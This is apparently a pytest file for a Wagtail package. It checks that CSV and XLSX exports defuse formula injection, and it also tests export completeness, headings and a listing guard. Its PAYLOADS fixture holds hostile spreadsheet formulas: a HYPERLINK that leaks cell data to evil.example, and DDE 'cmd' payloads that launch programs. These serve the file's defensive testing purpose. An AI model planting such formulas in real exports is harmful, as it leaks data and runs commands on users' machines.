"""Spreadsheet formulas in every export of the package, parsed back.

Names, addresses and placements are typed by people, so each may start like a formula:
"=HYPERLINK(...)", "+cmd|...", "-2+3", "@SUM(...)", a tab, CR or LF before one, a space
before one, the full-width equals sign. Every export (each register listing's CSV and XLSX,
the batch listing's, the Communication Log's, a batch's communications, the skipped report,
the letters' mailing list) must hand them back as text: prefixed with a quote, otherwise
exactly as typed. The CSV is parsed with the csv module, the XLSX opened with openpyxl.

Also: the batch listing's and a batch's communications' exports hold real rows (they were
one blank line per row), an export holds every row rather than one page, and every listing
view of the package goes through the one guard (``GuardedListingMixin``).
"""

from __future__ import annotations

import csv
import io
import re

import factories
import openpyxl
import pytest
from batch_admin_data import generate, make_batch
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from wagtail_batchcomms import exports
from wagtail_batchcomms.letters import chunks
from wagtail_batchcomms.letters import downloads as letter_service
from wagtail_batchcomms.models import Assembly, DownloadStatus, ExportRun
from wagtail_batchcomms.spreadsheets import csv_cell
from wagtail_batchcomms.views.listing_guards import GuardedListingMixin

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("private_root")]

#: A spreadsheet could run each of these as a formula.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+": "+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "space": " =1+1",
    "fullwidth": "\uff1d1+1",
}
#: Text that only looks odd: it must come out exactly as typed (no quote added).
HARMLESS = {"apostrophe": "O'Brien Plumbing", "quote": '"Quoted" Holdings', "plain": "Oak Bakery"}


@pytest.fixture
def poisoned(admin, private_root):
    """Per payload: a service area, a location named with it (and its address), its owner
    (paper: a letter), an assembly whose placement and manufacturer carry it, and a location
    without any contact (the skipped report); a batch named with each payload, the first one
    generated."""
    template = factories.notice_template(
        name="Poisoned notice", contact_methods="letter", first_available_only=False
    )
    everything = {**PAYLOADS, **HARMLESS}
    for i, value in enumerate(everything.values()):
        area = factories.service_area(name=f"{value} area {i}", code=f"P{i}")
        location = factories.location(
            account_number=f"PX-{i:03d}",
            name=value,
            address_line1=value,
            service_area=area,
        )
        owner = factories.contact(name=value, organisation=value, email="", prefers_paper=True)
        factories.role(location, owner, "owner", primary=True)
        factories.assembly(location, placement=value, manufacturer=value)
        lonely = factories.location(account_number=f"PY-{i:03d}", name=value)
        factories.assembly(lonely)
    batches = [make_batch(admin, template, name=f"{value} batch") for value in everything.values()]
    generated = generate(batches[0], admin)
    return {"batch": generated}


def csv_cells(content: bytes) -> list[list[str]]:
    text = content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def xlsx_cells(content: bytes) -> list[list[object]]:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def listing_export(url_name: str, batch_arg: bool = False):
    def fetch(client, world, fmt):
        args = [world["batch"].pk] if batch_arg else []
        response = client.get(reverse(url_name, args=args), {"export": fmt})
        if world.get("background"):
            # Queued (the threshold is 1 row): the task writes the file, the page offers it.
            assert response.status_code == 302, "not queued"
            run = ExportRun.objects.latest("pk")
            assert response["Location"] == run.get_admin_url()
            assert exports.run_export(run.pk).startswith("ready"), run.error
            response = client.get(reverse("wagtail_batchcomms_export:download", args=[run.pk]))
        assert response.status_code == 200
        assert "attachment" in response["Content-Disposition"]
        return response

    return fetch


def skipped_report(client, world, fmt):
    return client.get(reverse("wagtail_batchcomms_batch:skipped_csv", args=[world["batch"].pk]))


def mailing_list(client, world, fmt):
    user = world["user"]
    download = letter_service.request_letter_download(world["batch"].pk, user=user)
    assert chunks.run_download_here(download.pk) == DownloadStatus.READY
    return client.get(reverse("wagtail_batchcomms_letters:mailing_list", args=[download.pk]))


EXPORTS = {
    "assemblies": listing_export("wagtailsnippets_wagtail_batchcomms_assembly:list"),
    "locations": listing_export("wagtailsnippets_wagtail_batchcomms_location:list"),
    "contacts": listing_export("wagtailsnippets_wagtail_batchcomms_contact:list"),
    "service areas": listing_export("wagtailsnippets_wagtail_batchcomms_servicearea:list"),
    "batches": listing_export("wagtail_batchcomms_batch:index"),
    "communication log": listing_export("wagtail_batchcomms_communication:index"),
    "batch communications": listing_export(
        "wagtail_batchcomms_batch:communications", batch_arg=True
    ),
    "skipped report": skipped_report,
    "mailing list": mailing_list,
}
CASES = [
    (name, fmt, way)
    for name in EXPORTS
    for fmt in (("csv",) if name in ("skipped report", "mailing list") else ("csv", "xlsx"))
    for way in (
        ("request",) if name in ("skipped report", "mailing list") else ("request", "background")
    )
]


@pytest.mark.parametrize(("export", "fmt", "way"), CASES)
def test_every_export_hands_formulas_back_as_text(
    admin_client, superuser, poisoned, app_settings, export, fmt, way
):
    """In the request, and written in the background (``EXPORT_BACKGROUND_ROWS``) then
    downloaded from the export's page."""
    if way == "background":
        app_settings(EXPORT_BACKGROUND_ROWS=1)
    world = {**poisoned, "user": superuser, "background": way == "background"}
    response = EXPORTS[export](admin_client, world, fmt)
    assert response.status_code == 200
    content = body(response)
    rows = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
    assert len(rows) > 1, "the export holds no rows"
    cells = [cell for row in rows for cell in row]
    texts = [cell for cell in cells if isinstance(cell, str)]
    for payload_id, payload in PAYLOADS.items():
        if fmt == "xlsx":
            payload = payload.replace("\r", "\n")  # XML reads a CR back as a line feed
        # A batch's name is stripped when it is saved: its core (the formula) is left.
        core = payload.strip()
        assert any(core in text for text in texts), f"{payload_id}: not exported at all"
        # Every cell holding the payload holds it as text: quoted in front.
        for text in texts:
            if core in text:
                assert text.startswith("'"), f"{payload_id}: {text!r} is left a formula"
        assert payload not in cells, f"{payload_id}: exported as typed"
    for harmless_id, value in HARMLESS.items():
        assert value in cells or any(text.startswith(value) for text in texts), harmless_id
    # Nothing a spreadsheet would run is left anywhere in the file.
    for text in texts:
        assert csv_cell(text) == text, f"{text!r} is left a formula"
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_batch_listing_exports_its_batches(admin_client, admin, register, template, fmt):
    batch = generate(make_batch(admin, template, name="Spring notices"), admin)
    make_batch(admin, template, name="Autumn notices")
    response = admin_client.get(reverse("wagtail_batchcomms_batch:index"), {"export": fmt})
    assert response.status_code == 200
    assert f"batch-communications.{fmt}" in response["Content-Disposition"]
    content = body(response)
    rows = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
    header, *rows = rows
    assert header[:4] == ["Name", "State", "Notice template", "Due date"]
    by_name = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    assert set(by_name) == {"Spring notices", "Autumn notices"}
    spring = by_name["Spring notices"]
    assert spring["State"] == "Generated"
    assert spring["Notice template"] == "Annual test reminder"
    assert int(spring["Assemblies"]) == Assembly.objects.count()
    assert int(spring["Emails"]) + int(spring["Letters"]) == batch.communications.count() > 0
    assert by_name["Autumn notices"]["State"] == "Open"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_batch_exports_its_communications(admin_client, admin, register, template, fmt):
    batch = generate(make_batch(admin, template), admin)
    other = generate(make_batch(admin, template, name="Other"), admin)
    url = reverse("wagtail_batchcomms_batch:communications", args=[batch.pk])
    response = admin_client.get(url, {"export": fmt, "channel": "email"})
    assert response.status_code == 200
    assert f"batch-{batch.pk}-communications.{fmt}" in response["Content-Disposition"]
    content = body(response)
    header, *rows = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
    assert header[:4] == ["Channel", "Status", "Delivery", "Recipient"] and "Email" in header
    exported = sorted(row[header.index("Email")] for row in rows)
    expected = sorted(batch.communications.filter(channel="email").values_list("email", flat=True))
    assert exported == expected and len(expected) > 1
    assert other.communications.exists()  # and none of the other batch's came out


def test_the_communication_log_export_holds_every_row_not_one_page(
    admin_client, admin, register, template, app_settings
):
    app_settings(LISTING_PAGE_SIZE=2)
    batch = generate(make_batch(admin, template), admin)
    response = admin_client.get(
        reverse("wagtail_batchcomms_communication:index"), {"export": "csv"}
    )
    rows = csv_cells(body(response))[1:]
    assert len(rows) == batch.communications.count() > 2


@pytest.mark.parametrize(
    "url_name",
    [
        "wagtailsnippets_wagtail_batchcomms_noticetemplate:list",
        "wagtail_batchcomms_batch:assemblies",
    ],
)
def test_a_listing_without_an_export_shows_its_page(admin_client, admin, register, url_name):
    batch = make_batch(admin, factories.notice_template())
    args = [batch.pk] if url_name.endswith(":assemblies") else []
    response = admin_client.get(reverse(url_name, args=args), {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


def test_an_export_with_invalid_filters_shows_the_errors_instead_of_every_row(
    admin_client, register
):
    url = reverse("wagtailsnippets_wagtail_batchcomms_assembly:list")
    response = admin_client.get(url, {"hazard": "volcanic", "export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "volcanic is not one of the available choices" in response.content.decode()


def _views(patterns, found):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            _views(pattern.url_patterns, found)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class is not None:
                found.append((str(pattern.pattern), view_class, pattern.callback))


def test_every_listing_of_the_package_goes_through_the_guard():
    """Every view of our models that can export (Wagtail's SpreadsheetExportMixin), read from
    the URL patterns so that a new listing is covered, has the guard."""
    found: list = []
    _views(get_resolver().url_patterns, found)
    ours = []
    for route, view_class, callback in found:
        model = callback.view_initkwargs.get("model") or getattr(view_class, "model", None)
        if (
            issubclass(view_class, SpreadsheetExportMixin)
            and model is not None
            and model._meta.app_label == "wagtail_batchcomms"
        ):
            ours.append((route, view_class))
    # Four register listings, templates, batches, the log, a batch's two lists.
    assert len({view_class for _route, view_class in ours}) >= 9, ours
    unguarded = [
        route for route, view_class in ours if not issubclass(view_class, GuardedListingMixin)
    ]
    assert not unguarded, unguarded


def test_a_control_character_does_not_break_the_xlsx_export(admin_client):
    """openpyxl refuses a workbook holding one (IllegalCharacterError, a 500 before)."""
    factories.contact(name="Bell\x07 Pepper", organisation="=Tab\x0bCo")
    url = reverse("wagtailsnippets_wagtail_batchcomms_contact:list")
    response = admin_client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    cells = [cell for row in xlsx_cells(body(response)) for cell in row]
    assert "Bell Pepper" in cells and "'=TabCo" in cells
    # The CSV keeps the characters (a CSV can hold them), still guarded.
    cells = [
        cell for row in csv_cells(body(admin_client.get(url, {"export": "csv"}))) for cell in row
    ]
    assert "Bell\x07 Pepper" in cells and "'=Tab\x0bCo" in cells


#: Every listing export (the skipped report and the mailing list write their own headings).
LISTING_CASES = [
    case[:2]
    for case in CASES
    if case[0] not in ("skipped report", "mailing list") and case[2] == "request"
]
RAW_NAME = re.compile(r"_|[^\W\d]\d|\.|\bget\b|\bdisplay\b", re.IGNORECASE)


@pytest.mark.parametrize(("export", "fmt"), LISTING_CASES)
def test_every_export_says_yes_no_and_heads_its_columns_in_words(
    admin_client, superuser, poisoned, export, fmt
):
    """A yes/no column (a contact's "Prefers paper", a location's "Active") reads Yes/No as
    the listing does, and no heading is an attribute's name ("Address line1",
    "service_area.code")."""
    world = {**poisoned, "user": superuser}
    content = body(EXPORTS[export](admin_client, world, fmt))
    rows = csv_cells(content) if fmt == "csv" else xlsx_cells(content)
    assert len(rows) > 1, "the export holds no rows"
    headings, *data = rows
    for heading in headings:
        assert heading and not RAW_NAME.search(heading), f"{export}: heading {heading!r}"
    cells = [cell for row in data for cell in row]
    assert not [cell for cell in cells if isinstance(cell, bool)], f"{export}: a TRUE cell"
    assert not {"True", "False"} & {cell for cell in cells if isinstance(cell, str)}, export
    if export in ("locations", "contacts"):
        column = headings.index("Active" if export == "locations" else "Prefers paper")
        assert {row[column] for row in data} == {"Yes"}  # every poisoned one is active / paper
